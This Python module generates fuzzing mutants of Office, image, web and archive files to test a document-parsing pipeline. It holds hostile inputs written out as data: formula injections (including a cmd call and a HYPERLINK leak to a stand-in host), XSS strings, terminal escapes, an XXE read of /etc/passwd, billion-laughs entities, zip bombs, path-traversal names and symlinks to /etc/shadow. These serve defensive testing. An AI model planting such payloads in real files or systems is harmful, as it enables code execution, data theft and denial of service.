"""Fuzz families beyond PDF: Word, Excel, image files, web pages and archives, each one entry of
`FAMILIES`.

A family says where its base files come from, which operations it mixes (with weights), how one
operation changes a file's bytes, and which operations leave a valid file (which must be read). The
PDF family is pipeline/fuzz/mutate.py as it was (its mutants of a given seed are unchanged); adding a
family is one more `Family(...)` entry here with its bases and operations.

Word and Excel files are ZIP containers: besides bytes flipped anywhere and truncation, mutants
flip bytes inside a member, break an XML part, drop a member, add a zip bomb (a member inflating to
300 MB, or one whose declared size lies), a member named with `../` (path traversal), XML attacks
(an external entity reading /etc/passwd, billion laughs), and hostile text: formula and script
payloads in every text of the lists (a valid file: it must be read), a control character reference
(not allowed in XML 1.0). The legacy .xls base gets byte-level damage. Image files (PNG, JPEG, a
two-frame TIFF rendered from a generated list) get byte flips, truncation, a pixel bomb (a PNG
declaring 30,000 × 30,000 pixels) and a TIFF of many blank frames. Every family also gets odd file
names: formula and script payloads and a terminal escape sequence (valid: must be read).

Web pages are a list generated here (`page`: furniture, a bold title per list, category rowspan
cells, steps separated by <br>) as UTF-8 .html, GBK .htm and a quoted-printable .mht: broken and
unclosed tags, elements nested thousands deep, colspan/rowspan of 100,000 (or negative, or
absurd), a <meta> charset that lies, MIME boundaries broken, base64/quoted-printable damaged, and
payloads in cells, the page title and heading (valid). Archives are zips with GBK member names
(Windows' compressed folder) of a PDF and a .docx fixture, or of a page: nested beyond the depth
limit, a bomb member, a lying declared size, over the member cap, `../`, absolute, drive-letter
and UNC names, a symbolic link, encrypted members, other GBK names and a payload page (valid),
and .7z/.rar stubs. The bases are made here, never imported from tests/.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
import io
from pathlib import Path
import random
import re
import struct
import zipfile
import zlib

from pipeline.fuzz.mutate import Mutant

ROOT = Path(__file__).resolve().parent.parent.parent
FIXTURES = ROOT / "tests" / "fixtures"

FORMULAS = ('=HYPERLINK("http://example.invalid/?leak="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1+1)")  # fmt: skip
SCRIPTS = ("<script>alert(1)</script>", "<svg onload=alert(1)>", "<img src=x onerror=alert(1)>",
           '<a href="javascript:alert(1)">x</a>')  # fmt: skip
NAMES = ("=1+1+cmd|' -C calc'!A0", "<svg onload=alert(1)>", "@SUM(1)", "\x1b]0;pwned\x07\x1b[2J", "+x-y")


@dataclass(frozen=True)
class Family:
    name: str
    bases: Callable[[Path], list[Path]]  # the base files (made into the given folder if need be)
    operations: dict[str, int]  # operation → weight in the mix
    apply: Callable[[str, bytes, random.Random], bytes]
    valid: tuple[str, ...]  # operations that leave a valid file: it must be read
    suffixes: dict[str, str] = field(default_factory=dict)  # operation → the suffix its mutants get


def family_mutant(family: Family, seed: int, index: int, bases: list[Path]) -> Mutant:
    """Mutant INDEX of SEED in FAMILY: depends only on these and the base files."""
    rng = random.Random(f"{family.name}/{seed}/{index}")
    base = bases[rng.randrange(len(bases))]
    op = rng.choices(list(family.operations), weights=list(family.operations.values()))[0]
    stem = f"m{index:04d}_{op}"
    suffix = family.suffixes.get(op, base.suffix)
    name = hostile_name(rng, stem, suffix) if op == "bad_name" else f"{stem}{suffix}".encode()
    return Mutant(index, op, base.name, name, family.apply(op, base.read_bytes(), rng))


def hostile_name(rng: random.Random, stem: str, suffix: str) -> bytes:
    return f"{stem}_{rng.choice(NAMES)}{suffix}".encode()


# --- Word and Excel (ZIP containers) -----------------------------------------------------------------

ZIP_OPS = {
    "flip_bytes": 10,
    "truncate": 8,
    "flip_member": 10,
    "break_xml": 10,
    "delete_member": 8,
    "payload": 12,
    "control_reference": 4,
    "xxe": 4,
    "billion_laughs": 4,
    "zip_bomb": 3,
    "lying_size": 4,
    "traversal_name": 3,
    "bad_name": 6,
}


def _members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i, z.read(i)) for i in z.infolist()]


def _zip(members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info, body in members:
            name = info.filename if isinstance(info, zipfile.ZipInfo) else info
            z.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _main_part(members: list) -> int:
    """Index of the part holding the list's text (document.xml, a sheet or the shared strings)."""
    names = [i.filename for i, _ in members]
    for wanted in ("word/document.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"):
        if wanted in names:
            return names.index(wanted)
    return max(range(len(members)), key=lambda k: len(members[k][1]))


_TEXT = re.compile(rb"(<(?:w:)?t(?: [^>]*)?>)([^<]{6,})(</(?:w:)?t>)")


def _escape(text: str) -> bytes:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()


def _flip(data: bytes, rng: random.Random, most: int = 16) -> bytes:
    """DATA with 1 to MOST random bits flipped."""
    out = bytearray(data)
    for _ in range(rng.randint(1, most)):
        if out:
            out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
    return bytes(out)


def _truncate(data: bytes, rng: random.Random) -> bytes:
    """DATA cut after 5 to 98 % of its bytes."""
    return data[: int(len(data) * rng.uniform(0.05, 0.98))]


def _byte_level(op: str, data: bytes, rng: random.Random) -> bytes | None:
    """The operations every family shares (the bytes kept under an odd name, bits flipped, cut
    short); None for any other operation."""
    if op == "bad_name":
        return data
    if op == "flip_bytes":
        return _flip(data, rng)
    if op == "truncate":
        return _truncate(data, rng)
    return None


def apply_zip(op: str, data: bytes, rng: random.Random) -> bytes:
    """A Word/Excel mutant of DATA: bytes damaged, or its members edited (`_edit_members`) and
    zipped again, or its declared sizes made to lie."""
    if op == "bad_name" or (op == "payload" and not data.startswith(b"PK\x03\x04")):
        return data  # a valid file under a hostile name (the .xls base: no text edited in BIFF)
    if op == "flip_bytes" or not data.startswith(b"PK\x03\x04"):  # the .xls base: bytes only
        return _truncate(data, rng) if op == "truncate" else _flip(data, rng)
    if op == "truncate":
        return _truncate(data, rng)
    members: list = _members(data)
    main = _main_part(members)
    if op == "lying_size":
        return _lying_size(members, rng)
    _edit_members(op, members, main, rng)
    return _zip(members)


def _edit_members(op: str, members: list, main: int, rng: random.Random) -> None:
    """The members of a ZIP container changed in place by one operation (`main`: the part
    holding the list's text)."""
    info, body = members[main]
    if op == "flip_member":
        k = rng.randrange(len(members))
        members[k] = (members[k][0], _flip(members[k][1], rng, 8))
    elif op == "break_xml":
        a = rng.randrange(max(1, len(body)))
        members[main] = (info, body[:a] + body[a + rng.randint(1, 200) :])
    elif op == "delete_member":
        del members[rng.randrange(len(members))]
    elif op == "payload":
        _payload_members(members, rng)
    elif op == "control_reference":  # ESC and U+FFFF as character references: not allowed in XML 1.0
        members[main] = (
            info,
            _TEXT.sub(
                lambda m: m.group(1) + b"&#27;]0;x&#7;&#xFFFF;" + m.group(2) + m.group(3), body, count=3
            ),
        )
    elif op in ("xxe", "billion_laughs"):
        members[main] = (info, _entity_attack(op, body))
    elif op == "zip_bomb":
        members.append(("customXml/item9.xml", b"<a>" + b"\0" * (300 << 20) + b"</a>"))
    elif op == "traversal_name":
        members.append(("../../../../tmp/evil.xml", b"<evil/>"))


def _payload_members(members: list, rng: random.Random) -> None:
    """Every longer text of the XML members (item names, duties, departments) with a formula or
    script payload before or after it; titles left as printed, so the list is still found."""
    payloads = [*FORMULAS, *SCRIPTS]

    def bad(m: re.Match) -> bytes:
        if "清单".encode() in m.group(2):  # a title: left as printed, so the list is still found
            return m.group(0)
        p = rng.choice(payloads)
        text = _escape(p) + m.group(2) if p[0] in "=+-@" else m.group(2) + _escape(p)
        return m.group(1) + text + m.group(3)

    for k, (i, b) in enumerate(members):
        if i.filename.endswith(".xml"):
            members[k] = (i, _TEXT.sub(bad, b))


def _entity_attack(op: str, body: bytes) -> bytes:
    """An XML part with a DOCTYPE declaring an external entity (xxe: /etc/passwd) or nested
    entities (billion_laughs), and the entity used in its first text."""
    if op == "xxe":
        doctype = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        entity = b"&x;"
    else:
        levels = [b'<!ENTITY l0 "lol">'] + [
            b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)
        ]
        doctype = b"<!DOCTYPE r [" + b"".join(levels) + b"]>"
        entity = b"&l9;"
    head, sep, rest = body.partition(b"?>")
    body = head + sep + doctype + rest if sep else doctype + body
    return _TEXT.sub(lambda m: m.group(1) + entity + m.group(3), body, count=1)


def _lying_size(members: list, rng: random.Random) -> bytes:
    """The members zipped with one member's declared size (central and local header) made small."""
    out = bytearray(_zip(members))
    central = out.find(b"PK\x01\x02")
    local = 0
    for _ in range(rng.randrange(len(members))):  # a member at random: its declared size made small
        central = out.find(b"PK\x01\x02", central + 4)
    local = struct.unpack_from("<I", out, central + 42)[0]
    for where in (central + 24, local + 22):
        struct.pack_into("<I", out, where, rng.choice((0, 1, 100)))
    return bytes(out)


def office_bases(folder: Path, suffixes: tuple[str, ...]) -> list[Path]:
    """The committed Word/Excel fixtures, and lists generated in the test fixtures' ways."""
    found = sorted(p for s in suffixes for p in (FIXTURES / "corpus" / "producers").rglob(f"*{s}"))
    found += sorted(p for s in suffixes for p in (FIXTURES / "office").glob(f"lists{s}"))
    folder.mkdir(parents=True, exist_ok=True)
    try:
        import sys

        sys.path.insert(0, str(ROOT))
        from tests.office_fixtures import lists_for, write_docx, write_xlsx
    except ImportError:  # python-docx missing: the committed files only
        return found
    for identity in ("liangjiadun", "hongqi"):
        ident, lists = lists_for(identity, n=6)
        if ".docx" in suffixes:
            target = folder / f"{identity}.docx"
            if not target.exists():
                write_docx(target, ident, lists, numbering=identity == "hongqi")
            found.append(target)
        if ".xlsx" in suffixes:
            target = folder / f"{identity}.xlsx"
            if not target.exists():
                write_xlsx(target, ident, lists, one_sheet=identity == "hongqi")
            found.append(target)
    return found


# --- images -------------------------------------------------------------------------------------------

IMAGE_OPS = {"flip_bytes": 10, "truncate": 10, "pixel_bomb": 6, "many_frames": 1, "bad_name": 2}


def image_bases(folder: Path) -> list[Path]:
    """A page of a generated list rendered as a scan would be stored: PNG, JPEG, two-frame TIFF."""
    import pypdfium2 as pdfium

    folder.mkdir(parents=True, exist_ok=True)
    source = FIXTURES / "layouts" / "one_file_per_list" / "fujian3_jiben.pdf"
    made = [folder / "scan.png", folder / "scan.jpg", folder / "scan.tif"]
    if all(p.exists() for p in made):
        return made
    pdf = pdfium.PdfDocument(source)
    pages = [pdf[i].render(scale=200 / 72).to_pil().convert("L") for i in range(min(2, len(pdf)))]
    pdf.close()
    pages[0].save(made[0], dpi=(200, 200))
    pages[0].save(made[1], quality=85, dpi=(200, 200))
    pages[0].save(made[2], save_all=True, append_images=pages[1:], compression="tiff_deflate", dpi=(200, 200))
    return made


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def apply_image(op: str, data: bytes, rng: random.Random) -> bytes:
    shared = _byte_level(op, data, rng)
    if shared is not None:
        return shared
    if op == "pixel_bomb":  # a few bytes of PNG declaring 30,000 × 30,000 pixels
        side = rng.choice((9000, 12000, 30000))
        ihdr = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        row = zlib.compress(b"\0" * (side // 8 + 1) * 64)  # a few rows: the rest is missing
        return b"\x89PNG\r\n\x1a\n" + ihdr + _png_chunk(b"IDAT", row) + _png_chunk(b"IEND", b"")
    if op == "many_frames":
        from PIL import Image

        blank = Image.new("1", (800, 1100), 1)
        tiff = io.BytesIO()
        blank.save(tiff, format="TIFF", save_all=True, append_images=[blank] * rng.randint(20, 40),
                   compression="group4")  # fmt: skip
        return tiff.getvalue()
    raise ValueError(f"no image operation {op!r}")


# --- web pages (.html/.htm in UTF-8 and GBK, .mht) ----------------------------------------------------

WEB_OPS = {
    "flip_bytes": 8,
    "truncate": 8,
    "break_tags": 10,
    "deep_nesting": 5,
    "huge_span": 6,
    "lying_charset": 6,
    "payload": 12,
    "broken_boundary": 5,
    "bad_transfer": 5,
    "bad_name": 6,
}
MHT_OPS = ("broken_boundary", "bad_transfer")

TOWNSHIP = ("酒泉市", "金塔县", "鸳鸯镇")
LIST_TITLES = {
    "basic": "基本履职事项清单",
    "coordination": "配合履职事项清单",
    "reclaimed": "上级部门收回事项清单",
}
LIST_HEADERS = {
    "basic": ("序号", "事项类别", "事项名称"),
    "coordination": ("序号", "事项类别", "事项名称", "对应上级部门", "上级部门职责", "乡镇配合职责"),
    "reclaimed": ("序号", "事项类别", "事项名称", "承接部门及工作方式"),
}
CATEGORIES = ("党的建设", "经济发展", "民生服务", "平安建设")
SUBJECTS = ("基层党组织建设", "农村集体经济发展", "耕地保护监督", "防汛抗旱组织", "城乡居民医疗保险参保",
            "退役军人服务保障", "矛盾纠纷排查化解", "农村人居环境整治")  # fmt: skip


def list_rows(kind: str) -> list[list[list[str]]]:
    """A generated list's rows, each cell a list of paragraphs (a duty's steps)."""
    rows = []
    for i in range(6):
        subject = SUBJECTS[(i + len(kind)) % len(SUBJECTS)]
        row = [[str(i + 1)], [CATEGORIES[i // 2]], [f"{subject}工作"]]
        if kind == "coordination":
            row += [["县农业农村局" if i % 2 else "县民政局"],
                    [f"负责{subject}的统筹指导。", f"组织开展{subject}的监督检查。"],
                    [f"配合做好{subject}的摸底排查。", "及时报送有关情况。"]]  # fmt: skip
        elif kind == "reclaimed":
            row += [[f"县级有关部门承接{subject}，乡镇不再承担。"]]
        rows.append(row)
    return rows


def page(charset: str = "utf-8") -> str:
    """A county site's page of a generated list: furniture, a bold title per list, tables with the
    category as rowspan cells and a duty's steps separated by <br>."""
    from html import escape

    city, county, town = TOWNSHIP
    body = [f"<div class=nav><a href='/'>首页</a> &gt; 乡镇街道</div><h1>{town}履职事项清单</h1>",
            "<div class=info>发布时间：2025-05-06 09:30</div><div class=content>"]  # fmt: skip
    for kind, title in LIST_TITLES.items():
        body.append(f'<p align="center"><strong>{city}{county}{town}{title}</strong></p>')
        body.append('<table border="1" cellspacing="0"><tbody><tr>')
        body.append("".join(f"<td><strong>{h}</strong></td>" for h in LIST_HEADERS[kind]) + "</tr>")
        rows = list_rows(kind)
        for i, row in enumerate(rows):
            cells = []
            for c, paras in enumerate(row):
                if c == 1 and i % 2:
                    continue  # under the category's rowspan cell
                span = ' rowspan="2"' if c == 1 else ""
                cells.append(f"<td{span}>{'<br>'.join(escape(p) for p in paras)}</td>")
            body.append("<tr>" + "".join(cells) + "</tr>")
        body.append("</tbody></table>")
    body.append("</div><div class=foot>主办：某某县人民政府办公室</div>")
    return (f'<!DOCTYPE html>\n<html><head><meta charset="{charset}">\n<title>{town}履职事项清单_某某县人民政府'
            "</title>\n<script>if (a < b) { document.write('<table>'); }</script></head>\n<body>\n"
            + "\n".join(body) + "\n</body></html>\n")  # fmt: skip


def mht(html: str, transfer: str = "quoted-printable", charset: str = "gb2312") -> bytes:
    """A page saved as Internet Explorer saves it: multipart/related, the page in CHARSET with the
    given transfer encoding, a picture beside it."""
    import base64
    import quopri

    payload = html.encode("gb18030" if charset in ("gb2312", "gbk") else charset)
    body = quopri.encodestring(payload) if transfer == "quoted-printable" else base64.encodebytes(payload)
    gif = base64.encodebytes(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")
    return (b'From: <Saved by Windows Internet Explorer 8>\r\nSubject: =?utf-8?B?5riF5Y2V?=\r\n'
            b'MIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; '
            b'boundary="----=_NextPart_000_0000_01DB0000.00000000"\r\n\r\n'
            b"------=_NextPart_000_0000_01DB0000.00000000\r\n"
            b'Content-Type: text/html; charset="' + charset.encode() + b'"\r\n'
            b"Content-Transfer-Encoding: " + transfer.encode() + b"\r\n"
            b"Content-Location: http://www.example.gov.cn/xzjd/list.html\r\n\r\n" + body + b"\r\n"
            b"------=_NextPart_000_0000_01DB0000.00000000\r\nContent-Type: image/gif\r\n"
            b"Content-Transfer-Encoding: base64\r\nContent-Location: http://www.example.gov.cn/logo.gif\r\n\r\n"
            + gif + b"\r\n------=_NextPart_000_0000_01DB0000.00000000--\r\n")  # fmt: skip


def web_bases(folder: Path) -> list[Path]:
    """The generated list as a UTF-8 .html page, a GBK .htm page and a quoted-printable .mht."""
    folder.mkdir(parents=True, exist_ok=True)
    made = {"list_utf8.html": page().encode(), "list_gbk.htm": page("gbk").encode("gbk"),
            "list_saved.mht": mht(page("gb2312"))}  # fmt: skip
    for name, data in made.items():
        if not (folder / name).exists():
            (folder / name).write_bytes(data)
    return [folder / name for name in made]


def _page_text(data: bytes) -> str:
    for enc in ("utf-8", "gb18030"):
        try:
            return data.decode(enc)
        except UnicodeDecodeError:
            continue
    return data.decode("latin-1")


_CELL_TEXT = re.compile(r"(<td[^>]*>)([^<]{4,})(</td>)")


def apply_web(op: str, data: bytes, rng: random.Random) -> bytes:
    """A web-family mutant of DATA: bytes damaged, a saved page (.mht) with its MIME parts
    broken, or the page's markup edited (`_edit_page`) or its charset made to lie."""
    shared = _byte_level(op, data, rng)
    if shared is not None:
        return shared
    saved = data.lstrip().startswith((b"From:", b"MIME", b"Content-"))
    if op in MHT_OPS:
        return _mht_mutant(op, _page_text(data) if not saved else page("gb2312"), rng)
    html = _page_text(data) if not saved else page()
    encoding = "gbk" if 'charset="gbk"' in html else "utf-8"
    if op == "lying_charset":
        said = rng.choice(("gbk", "utf-8", "big5", "shift_jis", "utf-16", "x-no-such-charset", "utf-7"))
        html = re.sub(r'<meta charset="[^"]*">', f'<meta charset="{said}">', html, count=1)
        return html.encode(rng.choice(("gbk", "utf-8")))
    return _edit_page(op, html, rng).encode(encoding, "replace")


def _mht_mutant(op: str, html: str, rng: random.Random) -> bytes:
    """The page saved as .mht (quoted-printable or base64) with its boundary broken
    (broken_boundary) or its encoded body damaged or cut short (bad_transfer)."""
    transfer = rng.choice(("quoted-printable", "base64"))
    out = mht(html, transfer)
    boundary = b"----=_NextPart_000_0000_01DB0000.00000000"
    if op == "broken_boundary":
        how = rng.randrange(4)
        if how == 0:  # the header names a boundary the body never uses
            return out.replace(b'boundary="' + boundary, b'boundary="----=_Other', 1)
        if how == 1:  # no closing boundary, the last part cut short
            return out[: out.rfind(b"\r\n--" + boundary)][: -rng.randint(1, 40)]
        if how == 2:  # no boundary parameter at all
            return out.replace(b'; boundary="' + boundary + b'"', b"", 1)
        return out.replace(b"--" + boundary + b"\r\n", b"--" + boundary[:-3] + b"\r\n", 1)
    start = out.find(b"Content-Location: http://www.example.gov.cn/xzjd/list.html\r\n\r\n") + 62
    end = out.find(b"\r\n------=", start)
    body = bytearray(out[start:end])
    for _ in range(rng.randint(1, 12)):
        at = rng.randrange(len(body))
        body[at:at] = rng.choice((b"=ZZ", b"=\r", b"!!", b"=", b"====", b"\xff\xfe", b"%"))
    if rng.random() < 0.3:
        body = body[: rng.randrange(len(body))]
    return out[:start] + bytes(body) + out[end:]


def _edit_page(op: str, html: str, rng: random.Random) -> str:
    """The page's markup edited by one operation: tags broken, elements nested deep, absurd
    spans, or payloads in the title, heading and cells (valid)."""
    if op == "break_tags":
        pieces = list(html)
        for _ in range(rng.randint(1, 20)):
            at = rng.randrange(len(pieces))
            pieces.insert(at, rng.choice(("<", ">", "</td", "<tr", "<table ", '"', "<!--", "</table>",
                                          "<td rowspan=", "<![CDATA[", "&#", "</", "<script>")))  # fmt: skip
        html = "".join(pieces)
    elif op == "deep_nesting":
        n = rng.choice((3000, 10000, 50000))
        tag = rng.choice(("div", "span", "table", "td", "b"))
        nest = f"<{tag}>" * n + "深" + (f"</{tag}>" * n if rng.random() < 0.5 else "")
        at = html.find("<div class=content>") if rng.random() < 0.5 else html.find("</body>")
        html = html[:at] + nest + html[at:]
    elif op == "huge_span":
        big = rng.choice(("100000", "2147483647", "99999999999999999999", "-5", "1e9"))
        attr = rng.choice(("colspan", "rowspan"))
        cells = [m.start() for m in re.finditer("<td", html)]
        for at in sorted(rng.sample(cells, min(len(cells), rng.randint(1, 3))), reverse=True):
            html = html[: at + 3] + f' {attr}="{big}"' + html[at + 3 :]
    elif op == "payload":  # valid: payloads in the page title and cells, as text
        html = _page_payload(html, rng)
    return html


def _page_payload(html: str, rng: random.Random) -> str:
    """The page with formula, script and terminal payloads (escaped: shown as text) in its cells,
    its title and its heading."""
    from html import escape

    payloads = [*FORMULAS, *SCRIPTS, "\x1b]0;pwned\x07\x1b[2J"]

    def bad(m: re.Match) -> str:
        p = escape(rng.choice(payloads))
        text = p + m.group(2) if p[0] in "=+-@" else m.group(2) + p
        return m.group(1) + text + m.group(3)

    html = _CELL_TEXT.sub(bad, html)
    html = html.replace("<title>", f"<title>{escape(rng.choice(payloads))}", 1)
    return html.replace("<h1>", f"<h1>{escape(rng.choice(payloads))}", 1)


# --- archives of attachments (.zip; .7z and .rar stubs) ------------------------------------------------

ARCHIVE_OPS = {
    "flip_bytes": 8,
    "truncate": 8,
    "nested": 5,
    "zip_bomb": 3,
    "lying_size": 4,
    "many_members": 3,
    "traversal_name": 5,
    "symlink": 4,
    "encrypted": 4,
    "gbk_name": 8,
    "payload": 8,
    "stub_7z": 2,
    "stub_rar": 2,
    "bad_name": 6,
}


def gbk_zip(members: list[tuple], mode: int = 0, flags: int = 0) -> bytes:
    """A zip as Windows' compressed folder writes it: names in GBK, the UTF-8 flag clear. A member
    is (name, bytes) or (name, bytes, Unix file mode, general purpose flag bits)."""
    full = [(m[0], m[1], m[2] if len(m) > 2 else mode, m[3] if len(m) > 3 else flags) for m in members]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for k, (name, body, unix_mode, _) in enumerate(full):
            width = len(name.encode("gbk", "replace"))  # an ASCII stand-in of the GBK name's length
            info = zipfile.ZipInfo(f"{k}{'x' * width}"[:width], (2025, 5, 6, 9, 30, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            if unix_mode:
                info.create_system, info.external_attr = 3, unix_mode << 16
            z.writestr(info, body)
    blob = bytearray(out.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(blob))) as z:
        offsets = [i.header_offset for i in z.infolist()]
    start = struct.unpack_from("<I", blob, blob.rfind(b"PK\x05\x06") + 16)[0]
    for offset, (name, _, _, bits) in zip(offsets, full, strict=True):
        raw = name.encode("gbk", "replace")
        n, extra, comment = struct.unpack_from("<HHH", blob, start + 28)
        blob[offset + 30 : offset + 30 + len(raw)] = raw
        blob[start + 46 : start + 46 + n] = raw
        for where in (offset + 6, start + 8):  # the local and the central header's flag bits
            struct.pack_into("<H", blob, where, struct.unpack_from("<H", blob, where)[0] | bits)
        start += 46 + n + extra + comment
    return bytes(blob)


ATTACHMENTS = (("附件1：金塔县东坝镇履职事项清单.pdf", "layouts/cover_page/longnan_wenxian_tielou.pdf"),
               ("附件2/三塘湖乡履职事项清单.docx", "corpus/producers/docx_input/santanghu.docx"))  # fmt: skip


def archive_bases(folder: Path) -> list[Path]:
    """A zip of attachments with GBK member names (a PDF and a .docx list), and one holding a web page."""
    folder.mkdir(parents=True, exist_ok=True)
    made = {
        "attachments.zip": [(name, (FIXTURES / src).read_bytes()) for name, src in ATTACHMENTS],
        "page.zip": [("鸳鸯镇清单/履职事项清单.htm", page("gbk").encode("gbk"))],
    }
    for name, members in made.items():
        if not (folder / name).exists():
            (folder / name).write_bytes(gbk_zip(members))
    return [folder / name for name in made]


def apply_archive(op: str, data: bytes, rng: random.Random) -> bytes:
    """An archive-family mutant of DATA: bytes damaged, a .7z/.rar stub, nested zips, members
    encrypted, or members added or renamed (`_archive_members`) and zipped again as Windows does."""
    shared = _byte_level(op, data, rng)
    if shared is not None:
        return shared
    if op == "stub_7z":
        return b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(rng.randrange(256) for _ in range(rng.randint(0, 200)))
    if op == "stub_rar":
        return rng.choice((b"Rar!\x1a\x07\x00", b"Rar!\x1a\x07\x01\x00")) + bytes(rng.randint(0, 200))
    if op == "lying_size":
        return apply_zip("lying_size", data, rng)
    from pipeline.extract.archives import member_name

    members: list[tuple] = [(member_name(i), body) for i, body in _members(data)]
    if op == "nested":  # zips in zips, beyond the depth limit
        for depth in range(rng.randint(2, 6)):
            data = gbk_zip(
                [(f"第{depth}层.zip", data), *([("说明.txt", "见附件".encode())] if depth % 2 else [])]
            )
        return data
    if op == "encrypted":  # every member, or one, flagged as encrypted
        if rng.random() < 0.5:
            return gbk_zip(members, flags=0x1)
        k = rng.randrange(len(members))
        members[k] = (*members[k], 0, 0x1)
        return gbk_zip(members)
    return gbk_zip(_archive_members(op, members, rng))


def _archive_members(op: str, members: list[tuple], rng: random.Random) -> list[tuple]:
    """The archive's members (name, bytes[, mode, flags]) with one operation's members added or
    its names changed."""
    if op == "zip_bomb":
        members.append(("附件3/数据.xml", b"\0" * (rng.choice((64, 300)) << 20)))
    elif op == "many_members":
        members += [(f"附件/{k:05d}.txt", b"x") for k in range(rng.choice((1001, 1500, 5000)))]
    elif op == "traversal_name":  # names reaching out of a folder: read under a safe name
        first, body = members[0]
        suffix = first[first.rfind(".") :]
        names = ("../../../../tmp/evil", "/etc/evil", "C:\\Windows\\evil", "..\\..\\evil1",
                 "a/../../b/./evil", "\\\\server\\share\\evil")  # fmt: skip
        members += [(name + suffix, body) for name in rng.sample(names, rng.randint(1, 3))]
    elif op == "symlink":
        target = rng.choice(("/etc/passwd", "../../../../etc/shadow", "C:\\Windows\\win.ini", "/"))
        members.append((rng.choice(("链接.pdf", "附件/清单.docx", "page.html")), target.encode(), 0o120777))
    elif op == "gbk_name":  # valid: other Chinese names, in GBK
        members = [(f"{rng.choice(('关于印发', '附件', '最新'))}{k + 1}：{name.rsplit('/', 1)[-1]}", body)
                   for k, (name, body) in enumerate(members)]  # fmt: skip
    elif op == "payload":  # valid: a page of a list whose cells carry payloads, beside the attachments
        members.append((f"附件9_{rng.choice(NAMES[:3]).replace('|', '')}.html",
                         apply_web("payload", page().encode(), rng)))  # fmt: skip
    return members


FAMILIES: dict[str, Family] = {
    "word": Family(
        "word", lambda f: office_bases(f, (".docx",)), ZIP_OPS, apply_zip, ("payload", "bad_name")
    ),
    "excel": Family(
        "excel", lambda f: office_bases(f, (".xlsx", ".xls")), ZIP_OPS, apply_zip, ("payload", "bad_name")
    ),
    "image": Family(
        "image",
        image_bases,
        IMAGE_OPS,
        apply_image,
        ("bad_name",),
        {"pixel_bomb": ".png", "many_frames": ".tif"},
    ),
    "web": Family(
        "web", web_bases, WEB_OPS, apply_web, ("payload", "bad_name"), dict.fromkeys(MHT_OPS, ".mht")
    ),
    "archive": Family(
        "archive",
        archive_bases,
        ARCHIVE_OPS,
        apply_archive,
        ("gbk_name", "payload", "bad_name"),
        {"stub_7z": ".7z", "stub_rar": ".rar"},
    ),
}
